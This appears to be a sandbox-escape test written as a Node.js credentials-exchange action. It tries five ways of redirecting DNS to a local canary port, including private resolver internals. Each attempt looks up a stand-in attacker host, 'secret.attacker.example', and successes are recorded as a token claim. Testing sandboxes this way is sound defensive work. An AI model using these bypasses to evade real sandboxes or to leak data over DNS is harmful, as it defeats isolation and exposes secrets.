// outcome: completed; claim reached=[]; beside served
const dns = require('node:dns')
exports.onExecuteCredentialsExchange = async (event, api) => {
  const { canary_udp_port } = event.request.body
  const reached = []
  const server = `127.0.0.1:${canary_udp_port}`
  const asks = (resolver) => resolver.resolve4('secret.attacker.example').then(() => true)
  const ways = {
    setServers: () => dns.setServers([server]) ?? asks(dns.promises),
    'setServers, promised': () => dns.promises.setServers([server]) ?? asks(dns.promises),
    'of a resolver': () => {
      const resolver = new dns.promises.Resolver({ timeout: 100, tries: 1 })
      resolver.setServers([server])
      return asks(resolver)
    },
    'of its channel': () => {
      const resolver = new dns.promises.Resolver({ timeout: 100, tries: 1 })
      return resolver._handle.setServers([[4, '127.0.0.1', canary_udp_port]]) === 0 && asks(resolver)
    },
    'of a channel of its own': () => {
      const resolver = new dns.promises.Resolver()
      const Channel = resolver._handle.constructor
      resolver._handle = new Channel(100, 1, 0)
      resolver._handle.setServers([[4, '127.0.0.1', canary_udp_port]])
      return asks(resolver)
    },
  }
  for (const [name, ask] of Object.entries(ways)) {
    try {
      if (await ask()) reached.push(name)
    } catch {
      // Refused.
    }
  }
  api.accessToken.setCustomClaim('reached', reached)
}
